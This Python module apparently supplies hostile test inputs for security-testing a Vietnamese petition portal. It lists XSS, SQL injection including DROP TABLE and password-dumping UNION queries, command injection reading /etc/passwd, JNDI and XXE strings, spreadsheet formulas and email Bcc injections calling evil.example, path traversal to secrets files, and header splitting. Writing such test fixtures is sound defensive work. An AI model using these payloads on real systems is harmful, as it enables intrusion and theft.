"""What attackers send. Each holds ``MARK``, by which it is found again in pages and logs."""

from urllib.parse import quote

MARK = "zqx7"
XSS = [
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert("{MARK}")>',
    f"'><svg/onload=alert('{MARK}')>",
    f"javascript:alert('{MARK}')",
    f'</title><script src="//evil.example/{MARK}.js"></script>',
    f"<iframe srcdoc='<script>{MARK}</script>'>",
    f'" autofocus onfocus="{MARK}()',
    f"<a href=javascript:{MARK}>x</a>",
    f"</textarea><script>{MARK}</script>",
    f"<ſcript>{MARK}</ſcript>",
    f"＜script＞{MARK}＜/script＞",
    f"<!--><script>{MARK}</script>-->",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
]
TEMPLATES = [
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"{{% load log %}}{MARK}",
    f"{{{{7*7}}}}{MARK}",
    f"${{7*7}}{MARK}",
    f"#{{7*7}}{MARK}",
    f"%(secret)s{MARK}",
    f"{{0.__class__.__mro__}}{MARK}",
    f"%s%s%n{MARK}",
]
SQL = [
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE petitions_case; -- {MARK}",
    f"') UNION SELECT username, password FROM accounts_user -- {MARK}",
    f"1; SELECT pg_sleep(10) -- {MARK}",
    f"' AND 1=CAST((SELECT version()) AS int) -- {MARK}",
    f"\\' OR 1=1 # {MARK}",
    f"%' OR subject LIKE '%{MARK}",
    f"{MARK} & !x | (a <-> b):*",
    f"{MARK}:* & '",
    f"$${MARK}$$; SELECT 1",
    f"E'\\x27{MARK}",
    f"0x27{MARK}/**/OR/**/1=1",
    f"{MARK}' || (SELECT 1) || '",
    f"\u02bc OR 1=1 {MARK}",
]
COMMANDS = [
    f"`id`{MARK}", f"$(id){MARK}", f"| cat /etc/passwd {MARK}", f"&& ping evil.example {MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}", f"{MARK}*)(uid=*))(|(uid=*", f"{MARK}' or count(/*)=1 or 'a",
    f'{{"$gt": "{MARK}"}}', f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>{MARK}",
]  # fmt: skip
UNICODE = [
    f"\u202e{MARK}\u202d", f"{MARK}\u200b\u200d", f"\ufeff{MARK}", f"{MARK}" + "\u0301" * 60,
    f"{MARK}\U000e0041\U000e007f", f"\u212a{MARK}\u017f", f"{MARK}\uffff", f"ﬀ{MARK}İı",
]  # fmt: skip
TEXTS = [*XSS, *TEMPLATES, *SQL, *COMMANDS, *UNICODE]
# The same in other clothes: what undoes them once too often would run them.
DISGUISED = [
    *(quote(text) for text in (*XSS, *SQL, *COMMANDS, *UNICODE)),
    *("".join(f"&#x{ord(sign):x};" for sign in text) + MARK for text in XSS),
    *("".join(chr(ord(s) + 0xFEE0) if "!" <= s <= "~" else s for s in text) + MARK for text in SQL),
    *(text.encode("utf-7").decode() + MARK for text in XSS),
    *(quote(quote(text)) for text in TEMPLATES),
]
FORMULAS = [
    f"=HYPERLINK(\"http://evil.example/{MARK}\")", f"+1+cmd|' /C calc'!A0{MARK}", f"-2+3+{MARK}",
    f"@SUM(1){MARK}", f"=1+1;{MARK}", f"=DDE(\"cmd\";\"/C\";\"{MARK}\")",
]  # fmt: skip
# Long inputs on which a careless pattern runs for minutes
LONG = [
    "a" * 50_000, "0" * 50_000, " " * 50_000, "HN-" + "-" * 50_000, "a@" * 20_000, "(" * 20_000,
    "1/" * 20_000, "đ" * 20_000, "-" * 50_000 + "!", "a " * 20_000,
]  # fmt: skip
NUMBERS = [
    "-1", "0", "99999999999999999999999", "1e309", "NaN", "Infinity", "-0", "0x10", "１２", "1_000",
    "2147483648", "9223372036854775808", "1.5", "٣", "", "true", "[]", "null",
]  # fmt: skip
PATHS = [
    "/static/../manage.py", "/static/..%2f..%2fmanage.py", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/....//....//etc/passwd", "/static/..\\..\\manage.py", "/static/%c0%ae%c0%ae/etc/passwd",
    "/static//etc/passwd", "/media/../.data/secrets.json", "/files/", "/.git/config", "/.env",
    "/.data/", "/tra-cuu/qr/..%2f..%2fx.svg", "/tra-cuu/qr/<svg>.svg", "/don-vi/..%2f..%2f/",
    "/chi-dao/..%2f/", "/can-bo/vu-viec/..%2f..%2fadmin/", "/api/v1/cases/..%2f..%2f/",
    "/api/v1/units/%00/", "/don-vi/%00/", "/%ff%fe/", "/can-bo/vu-viec/%E0%A4%A/",
    "/api/v1/petitions/%2e%2e/", "/server-status", "/phpmyadmin/", "/actuator/env", "/metrics",
    "/api/v1/../../quan-tri/", "/can-bo/he-thong/noi-dung-thong-bao/..%2f..%2fsettings/",
    "/static/css/portal.css%00.html", "//evil.example/%2f..", "/health/../quan-tri/",
]  # fmt: skip
ELSEWHERE = [
    "//evil.example/", "https://evil.example/", "///evil.example/", "/\\evil.example/",
    "\\\\evil.example/", "http:evil.example", "https:///evil.example/", "javascript:alert(1)",
    "data:text/html,x", "//evil.example%2f@testserver/", "https://testserver@evil.example/",
    "https://testserver.evil.example/", "\thttps://evil.example/", "/%09/evil.example",
    "ftp://testserver/", "\u2044\u2044evil.example",
]  # fmt: skip
SPLIT = [
    "/\r\nSet-Cookie: zqx7=1",
    "/%0d%0aSet-Cookie:%20zqx7=1",
    "/\nX-Zqx7: 1",
    "/\u010aX-Zqx7: 1",
]
HOSTS = [
    "evil.example", "testserver.evil.example", "testserver:80x", "testserver@evil.example",
    "evil.example#testserver", "[::1", "te st", "testserver\t", "127.0.0.1:80:80", "-evil.example",
]  # fmt: skip
FORWARDED = [
    {"x-forwarded-host": "evil.example"}, {"x-host": "evil.example"}, {"forwarded": "host=evil.example"},
    {"x-forwarded-server": "evil.example"}, {"x-original-url": "/quan-tri/"},
    {"x-rewrite-url": "/quan-tri/"}, {"x-http-method-override": "DELETE"},
    {"x-forwarded-prefix": "/evil.example"}, {"x-forwarded-for": "evil.example, 127.0.0.1"},
    {"x-real-ip": "127.0.0.1"}, {"x-forwarded-scheme": "http"}, {"x-forwarded-port": "8443"},
]  # fmt: skip
VERBS = ["PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "CONNECT", "zqx7"]
# For lines of a mail or of a calendar file that nobody meant to write
LINES = [
    f"Đơn\r\nBcc: {MARK}@evil.example", f"Đơn\nBcc: {MARK}@evil.example",
    f"Đơn\rBcc: {MARK}@evil.example", f"Đơn%0d%0aBcc: {MARK}@evil.example",
    f"Đơn\u2028Bcc: {MARK}@evil.example", f"Đơn\x85Bcc: {MARK}@evil.example",
    f"Đơn\x0bBcc: {MARK}@evil.example", f"=?utf-8?q?x=0D=0ABcc:{MARK}@evil.example?=",
    f"Đơn\r\n\r\n<script>{MARK}</script>", f"Đơn\r\nContent-Type: text/html; x={MARK}",
    f"Đơn\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-ZQX7:{MARK}", f"Đơn\nATTACH:https://evil.example/{MARK}",
    f"Đơn\\nATTACH:{MARK}", f"Đơn;X-ZQX7={MARK}:a,b", f"Đơn\r\n ATTACH:{MARK}",
]  # fmt: skip
ADDRESSES = [
    f"a@example.com\r\nBcc: {MARK}@evil.example", f"a@example.com\nCc:{MARK}@evil.example",
    f"a@example.com,{MARK}@evil.example", f"a@example.com;{MARK}@evil.example",
    f"a@example.com {MARK}@evil.example", f"<{MARK}@evil.example>a@example.com",
    f'"a\r\nBcc: {MARK}@evil.example"@example.com', f"a@example.com\x00{MARK}@evil.example",
    f"a@example.com%0aBcc:{MARK}@evil.example", f"a(@evil.example {MARK})b@example.com@evil.example",
    f"mailto:{MARK}@evil.example", f"@evil.example:{MARK}@example.com",
]  # fmt: skip
# Bodies of the API that are none
BODIES = [
    b"", b"[]", b"null", b'"x"', b"{", b"\xff\xfe", b'{"a":' * 3000, b'{"a": NaN}',
    b'{"a": "\\ud800"}', b'{"a": "\\u0000"}', b"<x/>", b"[" * 100_000,
    b'{"a":1,"a":2}', b'{"a": 1e99999}', b'{"version": ' + b"9" * 5000 + b"}",
]  # fmt: skip
BROKEN = ["%ff", "%00", "%C0%80", "%ED%A0%80", "%F4%90%80%80", quote("\ufffe")]
